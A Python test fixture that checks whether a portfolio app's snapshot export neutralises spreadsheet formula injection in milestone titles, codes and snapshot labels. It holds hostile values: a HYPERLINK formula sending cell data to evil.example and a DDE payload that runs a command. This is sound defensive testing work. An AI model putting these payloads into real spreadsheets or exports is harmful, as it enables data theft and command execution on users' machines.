"""A small store whose users typed formulas: a milestone code, title, comment and a snapshot label."""

from __future__ import annotations

from portfolio.domain import MilestoneStatus, Rag
from portfolio.snapshots.freeze import create_snapshot
from tests.snapshots.builders import D, M, add_plan

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
HOSTILE_LABEL = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_CODE = "+1"


def hostile_snapshots(engine) -> tuple[int, int]:
    """Two snapshots (before and after the hostile milestone slipped); returns their ids."""
    add_plan(engine, submitted=D(2022, 1, 10), rag=Rag.GREEN, milestones=[
        M(HOSTILE_CODE, HOSTILE_TITLE, D(2022, 6, 30), D(2022, 6, 30)),
        M("2.1", "-Tilsluttet KL Gateway", D(2022, 3, 31), D(2022, 3, 31), status=MilestoneStatus.GREEN),
    ], inclusion=[(D(2021, 12, 1), 851, 5, 5, 0)], targets=(100, [(D(2022, 6, 30), 50)]))
    first = create_snapshot(engine, label=HOSTILE_LABEL, as_of=D(2022, 1, 31), actor="t")
    add_plan(engine, submitted=D(2022, 2, 10), rag=Rag.AMBER, milestones=[
        M(HOSTILE_CODE, HOSTILE_TITLE, D(2022, 6, 30), D(2022, 9, 30), status=MilestoneStatus.AMBER),
        M("2.1", "-Tilsluttet KL Gateway", D(2022, 3, 31), D(2022, 3, 31), status=MilestoneStatus.GREEN),
    ], inclusion=[(D(2022, 1, 1), 851, 5, 10, 0)])
    second = create_snapshot(engine, label="=2+5", as_of=D(2022, 2, 28), actor="t")
    return first.id, second.id


def assert_neutral(strings) -> None:
    """Every string holding typed hostile text starts with the apostrophe that neutralises it."""
    seen = 0
    for text in strings:
        if not isinstance(text, str):
            continue
        for marker in ("HYPERLINK", "cmd|", "=2+5", "-Tilsluttet"):
            if marker in text and text.lstrip("'").startswith(("=", "+", "-", "@")):
                assert text.startswith("'"), f"not neutralised: {text!r}"
                seen += 1
    assert seen, "the hostile text did not reach the export at all"
